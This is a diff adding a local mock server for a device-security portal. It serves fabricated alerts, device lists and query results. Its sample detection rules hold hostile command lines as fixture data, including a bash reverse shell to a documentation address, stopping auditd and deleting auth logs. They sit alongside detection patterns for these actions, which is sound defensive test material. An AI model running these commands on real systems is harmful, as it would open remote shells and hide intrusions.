@@ -1,0 +1,167 @@
+// A stand-in for the hub, for work on the portal without one: `npm run mock`, then http://127.0.0.1:8444
+// (user admin, password admin). Serves the built portal with the hub's own security headers. Its answers
+// have the API's shapes and nothing behind them; every test that counts runs against the real hub.
+import { createReadStream, existsSync } from 'node:fs';
+import { createServer } from 'node:http';
+import { extname, join, normalize } from 'node:path';
+
+const port = Number(process.env.PORT ?? 8444);
+const dist = process.env.PORTAL_DIR ?? join(import.meta.dirname, '../../build/portal');
+const csp = [
+  "default-src 'none'", "script-src 'self'", "style-src 'self'", "img-src 'self' data:", "font-src 'self'",
+  "connect-src 'self'", "worker-src 'self'", "base-uri 'none'", "form-action 'self'", "frame-ancestors 'none'",
+  "require-trusted-types-for 'script'", 'trusted-types svelte-trusted-html',
+].join('; ');
+const types = { '.html': 'text/html; charset=utf-8', '.js': 'text/javascript', '.css': 'text/css', '.svg': 'image/svg+xml' };
+
+const minutes = (n) => new Date(Date.now() - n * 60_000).toISOString();
+const rules = [
+  ['crypto_coin_miner', 'Crypto coin miner started', 'High', 'Impact', 'T1496', 'sh -c "echo cpuminer-multi"', "contains 'cpuminer'"],
+  ['reverse_shell', 'Shell connected to a remote address', 'High', 'Execution', 'T1059.004', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', "contains '/dev/tcp/'"],
+  ['audit_disabled', 'Auditing was switched off', 'Medium', 'Defense Evasion', 'T1562.001', 'systemctl stop auditd', "contains 'stop auditd'"],
+  ['log_cleared', 'A system log was deleted', 'Medium', 'Defense Evasion', 'T1070.002', 'rm -f /var/log/auth.log', "contains '/var/log/'"],
+  ['local_account', 'A local account was created', 'Low', 'Persistence', 'T1136.001', 'useradd -m support2', "starts with 'useradd'"],
+];
+let nextId = 1;
+function makeAlert([id, title, severity, tactic, technique, command, pattern], device, age, status = 'new') {
+  return {
+    id: `a-${String(nextId++).padStart(6, '0')}-3f9c`, rule: { id, title: `${title} (rule)` }, title, severity, status,
+    deviceId: device, moduleId: 'azureiotsecurity', firstSeen: minutes(age + 3), lastSeen: minutes(age), hitCount: 1 + (age % 4),
+    description: `On ${device}, a process was started with the command line ${command}.`,
+    whyFlagged: `The command line ${pattern.replace(/'/g, '“')}, which this rule looks for.`,
+    remediation: ['Find out who or what started the process, and whether it was meant to.', 'If it was not, isolate the device from the network and keep its disk.', 'Look for the same command on other devices with the query below.'],
+    tactics: [tactic], techniques: [technique],
+    evidence: [{ eventId: crypto.randomUUID(), time: minutes(age), name: 'ProcessCreate', details: { Executable: '/usr/bin/dash', ProcessId: 4211, ParentProcessId: 812, UserId: '0', UserName: 'root', CommandLine: command, ExtraDetails: { Cwd: '/root', ContainerId: '' } }, matched: [{ field: 'CommandLine', value: command, pattern }] }],
+    query: `SecurityIoTRawEvent\n| where DeviceId == "${device}" and RawEventName == "ProcessCreate"\n| where EventDetails contains "cpuminer"\n| order by TimeStamp desc`,
+    history: [{ time: minutes(age + 3), actor: 'vedette', action: 'created', comment: '' }],
+  };
+}
+const names = ['gate-01', 'line-3-plc-gateway', 'hvac-roof', 'camera-hub-north', 'press-controller-7', 'meter-room'];
+const alerts = process.env.EMPTY ? [] : Array.from({ length: 14 }, (_, i) => makeAlert(rules[i % rules.length], names[i % names.length], 4 + i * 37, i % 5 === 4 ? 'closed' : i % 3 === 1 ? 'active' : 'new'));
+const devices = names.map((deviceId, i) => ({
+  deviceId, status: i === 5 ? 'disabled' : 'enabled', connectionState: i % 3 === 2 || i === 5 ? 'Disconnected' : 'Connected',
+  lastActivity: i === 5 ? null : minutes(i * 7), created: minutes(60 * 24 * (i + 3)), generationId: `63899${i}0042`, etag: `"${i}"`,
+  openAlerts: 0, authentication: { type: 'sas' },
+  modules: i === 5 ? [] : [{ moduleId: 'azureiotsecurity', connectionState: i % 3 === 2 ? 'Disconnected' : 'Connected', lastActivity: minutes(i * 7), agent: { version: '0.1.0', tier: ['ebpf', 'ebpf', 'connector', 'proc'][i % 4] } }],
+}));
+const tables = [
+  { name: 'SecurityIoTRawEvent', columns: [['TimeGenerated', 'datetime'], ['TimeStamp', 'datetime'], ['DeviceId', 'string'], ['RawEventName', 'string'], ['EventDetails', 'string'], ['IoTRawEventId', 'string']].map(([name, type]) => ({ name, type })) },
+  { name: 'SecurityAlert', columns: [['TimeGenerated', 'datetime'], ['DisplayName', 'string'], ['AlertSeverity', 'string'], ['Status', 'string']].map(([name, type]) => ({ name, type })) },
+];
+
+const sessions = new Set();
+const streams = new Set();
+let sequence = 1;
+function publish(event, data) {
+  for (const stream of streams) stream.write(`id: ${sequence}\nevent: ${event}\ndata: ${JSON.stringify(data)}\n\n`);
+  sequence += 1;
+}
+const brief = ({ id, severity, title, status, deviceId }) => ({ id, severity, title, status, deviceId });
+
+class Refusal extends Error {
+  constructor(status, code, message, diagnostics) {
+    super(message);
+    Object.assign(this, { status, code, diagnostics });
+  }
+}
+
+function diagnose(query) {
+  const at = query.search(/\bwher\b/);
+  if (at === -1) return [];
+  const before = query.slice(0, at).split('\n');
+  return [{ severity: 'error', message: "unknown operator 'wher'; did you mean 'where'?", line: before.length, column: before.at(-1).length + 1, offset: Buffer.byteLength(query.slice(0, at)), length: 4 }];
+}
+
+function runQuery({ query }) {
+  const diagnostics = diagnose(query);
+  if (diagnostics.length > 0) throw new Refusal(400, 'BadQuery', 'The query has errors.', diagnostics);
+  const count = /\btake 25\b/.test(query) ? 25 : 5000;
+  const rows = Array.from({ length: count }, (_, i) => [minutes(i), names[i % names.length], 'ProcessCreate', JSON.stringify({ Executable: '/usr/bin/dash', CommandLine: i % 9 === 0 ? 'sh -c "echo cpuminer-multi"' : `ls -l /srv/${i}`, ProcessId: 4000 + i, UserName: 'root' }), crypto.randomUUID(), 4000 + i]);
+  const columns = [['TimeStamp', 'datetime'], ['DeviceId', 'string'], ['RawEventName', 'string'], ['EventDetails', 'string'], ['IoTRawEventId', 'string'], ['ProcessId', 'long']].map(([name, type]) => ({ name, type }));
+  return { columns, rows, stats: { rows: rows.length, truncated: false, elapsedMs: 12.4 }, warnings: [] };
+}
+
+const list = (items, url) => {
+  const limit = Number(url.searchParams.get('limit') ?? 50);
+  const from = Number(url.searchParams.get('cursor') ?? 0);
+  return { items: items.slice(from, from + limit), nextCursor: from + limit < items.length ? String(from + limit) : null, total: items.length };
+};
+
+const routes = [
+  ['GET', /^\/session$/, () => ({ user: { name: 'admin', role: 'admin' }, expiresAt: minutes(-720) })],
+  ['GET', /^\/alerts$/, (_, url) => {
+    const picked = (name) => url.searchParams.get(name)?.split(',');
+    const text = url.searchParams.get('search')?.toLowerCase() ?? '';
+    return list(alerts.filter((alert) => (picked('status')?.includes(alert.status) ?? true) && (picked('severity')?.includes(alert.severity) ?? true) &&
+      (picked('device')?.includes(alert.deviceId) ?? true) && `${alert.title} ${alert.deviceId}`.toLowerCase().includes(text)), url);
+  }],
+  ['GET', /^\/alerts\/(.+)$/, (_, __, id) => alerts.find((alert) => alert.id === id)],
+  ['PATCH', /^\/alerts\/(.+)$/, (body, _, id) => {
+    const alert = alerts.find((one) => one.id === id);
+    alert.status = body.status;
+    alert.history.push({ time: minutes(0), actor: 'admin', action: body.status === 'closed' ? 'closed' : 'reopened', comment: body.comment ?? '' });
+    publish('alert', brief(alert));
+    return alert;
+  }],
+  ['GET', /^\/devices$/, (_, url) => list(process.env.EMPTY ? [] : devices.filter((device) => device.deviceId.includes(url.searchParams.get('search') ?? '')).map(withAlerts), url)],
+  ['GET', /^\/devices\/(.+)$/, (_, __, id) => { const found = devices.find((device) => device.deviceId === id); return found && withAlerts(found); }],
+  ['POST', /^\/query$/, runQuery],
+  ['POST', /^\/query\/validate$/, ({ query }) => ({ valid: diagnose(query).length === 0, columns: [], diagnostics: diagnose(query) })],
+  ['GET', /^\/query\/schema$/, () => ({ tables })],
+  // Not the hub's: makes something happen.
+  ['POST', /^\/mock\/alert$/, () => { const alert = makeAlert(rules[0], 'gate-01', 0); alerts.unshift(alert); publish('alert', brief(alert)); return alert; }],
+];
+const withAlerts = (device) => ({ ...device, openAlerts: alerts.filter((alert) => alert.deviceId === device.deviceId && alert.status !== 'closed').length });
+
+async function api(request, response, url) {
+  let body = {};
+  const chunks = [];
+  for await (const chunk of request) chunks.push(chunk);
+  if (chunks.length > 0) body = JSON.parse(Buffer.concat(chunks));
+  const path = url.pathname.slice('/api/v1'.length);
+  const sid = /sid=([\w-]+)/.exec(request.headers.cookie ?? '')?.[1];
+  if (request.method !== 'GET' && request.headers['x-vedette-csrf'] !== '1' && !path.startsWith('/mock')) throw new Refusal(403, 'Forbidden', 'The header X-Vedette-Csrf is missing.');
+  if (path === '/session' && request.method === 'POST') {
+    if (body.password !== 'admin' && body.oneTimeToken !== 'once') throw new Refusal(401, 'Unauthorized', 'User name or password is wrong.');
+    const id = crypto.randomUUID();
+    sessions.add(id);
+    response.setHeader('Set-Cookie', `sid=${id}; HttpOnly; SameSite=Strict; Path=/`);
+    return routes[0][2]();
+  }
+  if (!sessions.has(sid) && !path.startsWith('/mock')) throw new Refusal(401, 'Unauthorized', 'Sign in first.');
+  if (path === '/session' && request.method === 'DELETE') return sessions.delete(sid), undefined;
+  for (const [method, pattern, answer] of routes) {
+    const match = method === request.method && pattern.exec(path);
+    if (!match) continue;
+    const found = answer(body, url, ...match.slice(1).map(decodeURIComponent));
+    if (found === undefined) break;
+    return found;
+  }
+  throw new Refusal(404, 'NotFound', 'There is no such thing.');
+}
+
+createServer(async (request, response) => {
+  const url = new URL(request.url, 'http://localhost');
+  if (url.pathname === '/api/v1/stream') {
+    if (!sessions.has(/sid=([\w-]+)/.exec(request.headers.cookie ?? '')?.[1])) return response.writeHead(401).end();
+    response.writeHead(200, { 'Content-Type': 'text/event-stream', 'Cache-Control': 'no-store' }).write(': hello\n\n');
+    streams.add(response);
+    return request.on('close', () => streams.delete(response));
+  }
+  if (url.pathname.startsWith('/api/')) {
+    try {
+      const answer = await api(request, response, url);
+      response.writeHead(answer === undefined ? 204 : 200, { 'Content-Type': 'application/json' }).end(answer && JSON.stringify(answer));
+    } catch (error) {
+      const { status = 500, code = 'Internal', message, diagnostics } = error;
+      response.writeHead(status, { 'Content-Type': 'application/json' }).end(JSON.stringify({ error: { code, message, requestId: '5f0c2f6e0b9f4d1c', diagnostics } }));
+    }
+    return;
+  }
+  const file = join(dist, normalize(url.pathname));
+  const found = file.startsWith(dist) && extname(file) !== '' && existsSync(file);
+  if (!found && url.pathname.startsWith('/assets/')) return response.writeHead(404).end();
+  const served = found ? file : join(dist, 'index.html');
+  response.writeHead(200, { 'Content-Type': types[extname(served)] ?? 'application/octet-stream', 'Content-Security-Policy': csp, 'X-Content-Type-Options': 'nosniff', 'Referrer-Policy': 'no-referrer' });
+  createReadStream(served).pipe(response);
+}).listen(port, '127.0.0.1', () => console.log(`mock hub: http://127.0.0.1:${port}`));
